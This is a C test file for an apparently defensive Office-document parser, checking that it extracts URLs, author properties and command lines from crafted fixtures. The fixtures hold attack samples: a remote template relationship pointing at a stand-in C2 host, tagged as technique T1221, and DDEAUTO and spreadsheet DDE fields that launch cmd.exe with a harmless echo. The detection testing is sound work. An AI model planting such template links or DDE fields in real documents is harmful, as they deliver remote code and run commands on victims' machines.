/* SPDX-License-Identifier: Apache-2.0
 *
 * test_ooxml.c - parts of Office documents: relationships, properties, ids, fields in pieces.
 */
#include "collect.h"
#include "sweep.h"

static void read_with(collector *got, hm_bytes file)
{
    hm_err err = { 0 };
    collect_init(got, 64 << 20);
    hmi_reading reading = collect_reading(got);
    CHECK_OK(hmi_formats_read(&reading, file, &err));
}

static const char RELATIONS[] =
    "<?xml version=\"1.0\"?><Relationships "
    "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
    "<Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
    "relationships/attachedTemplate\" Target=\"http://c2.example.net/t.dotm?a=1&amp;b=2\" "
    "TargetMode=\"External\"/>"
    "<Relationship Id=\"r2\" Type=\"http://x/hyperlink\" Target='http://c2.example.net/h' "
    "TargetMode='External'/>"
    "<Relationship Id=\"r3\" Type=\"http://x/styles\" Target=\"http://c3.example.net/x\"/>"
    "</Relationships>";

TEST(templates_and_links_from_elsewhere)
{
    collector got;
    read_with(&got, HM_BYTES(RELATIONS));
    CHECK_TEXT(collect_fact_of(&got, "format"), "ooxml");
    CHECK(collect_has(&got, HMI_URL, HMI_ROLE_CONTENT, "http://c2.example.net/t.dotm?a=1&b=2"));
    CHECK(collect_has(&got, HMI_URL, HMI_ROLE_CONTENT, "http://c2.example.net/h"));
    CHECK(!collect_has(&got, HMI_URL, HMI_ROLE_CONTENT, "http://c3.example.net/x"));
    CHECK(collect_has(&got, HMI_TECHNIQUE, HMI_ROLE_CONTENT, "T1221"));
    CHECK(!collect_has(&got, HMI_DOMAIN, HMI_ROLE_NONE, "schemas.openxmlformats.org"));
    CHECK_EQ(got.note_count, 1);
    collect_fini(&got);
}

TEST(who_wrote_it_and_what_it_descends_from)
{
    collector got;
    read_with(&got,
              HM_BYTES("<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/"
                       "2006/metadata/core-properties\"><dc:creator>Kim &amp; "
                       "&#x4c;ee</dc:creator><cp:lastModifiedBy>Park</cp:lastModifiedBy>"
                       "<dcterms:created xsi:type=\"a\">2014-11-24T00:00:00Z</dcterms:created>"
                       "</cp:coreProperties>"));
    CHECK(collect_has(&got, HMI_DOCUMENT_PROPERTY, HMI_ROLE_CONTENT, "author=Kim & Lee"));
    CHECK(collect_has(&got, HMI_DOCUMENT_PROPERTY, HMI_ROLE_CONTENT, "modified-by=Park"));
    CHECK(
        collect_has(&got, HMI_DOCUMENT_PROPERTY, HMI_ROLE_CONTENT, "created=2014-11-24T00:00:00Z"));
    collect_fini(&got);
    read_with(&got, HM_BYTES("<w:settings xmlns:w=\"http://schemas.openxmlformats.org/"
                             "wordprocessingml/2006/main\"><w:rsids><w:rsidRoot "
                             "w:val=\"00A77427\"/></w:rsids></w:settings>"));
    CHECK(collect_has(&got, HMI_DOCUMENT_PROPERTY, HMI_ROLE_CONTENT, "rsid-root=00a77427"));
    collect_fini(&got);
}

static const char FIELDS[] =
    "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:p>"
    "<w:instrText> DDE</w:instrText><w:r/><w:instrText>AUTO c:\\\\windows\\\\cmd.exe &quot;/c "
    "echo&quot;</w:instrText></w:p><w:p><w:t>go to http://c2.example.net/text</w:t>"
    "<w:fldSimple w:instr=\" INCLUDEPICTURE http://c2.example.net/p.png \"/></w:p></w:document>";

TEST(fields_in_pieces)
{
    collector got;
    read_with(&got, HM_BYTES(FIELDS));
    CHECK(collect_has(&got, HMI_COMMAND_LINE, HMI_ROLE_CONTENT,
                      "DDEAUTO c:\\\\windows\\\\cmd.exe \"/c echo\""));
    CHECK(collect_has(&got, HMI_COMMAND_LINE, HMI_ROLE_CONTENT,
                      "INCLUDEPICTURE http://c2.example.net/p.png"));
    CHECK(collect_has(&got, HMI_URL, HMI_ROLE_CONTENT, "http://c2.example.net/text"));
    CHECK_EQ(got.note_count, 2);
    collect_fini(&got);
}

TEST(a_spreadsheet_that_starts_something)
{
    collector got;
    read_with(&got, HM_BYTES("<externalLink xmlns=\"http://schemas.openxmlformats.org/"
                             "spreadsheetml/2006/main\"><ddeLink ddeService=\"cmd\" "
                             "ddeTopic=\"/c echo hi\"></ddeLink></externalLink>"));
    CHECK(collect_has(&got, HMI_COMMAND_LINE, HMI_ROLE_CONTENT, "DDE cmd /c echo hi"));
    collect_fini(&got);
}

TEST(cut_anywhere_flipped_anywhere)
{
    sweep(&hmi_reader_ooxml, HM_BYTES(RELATIONS), sizeof(RELATIONS) - 1);
    sweep(&hmi_reader_ooxml, HM_BYTES(FIELDS), sizeof(FIELDS) - 1);
}

RUN_TESTS()
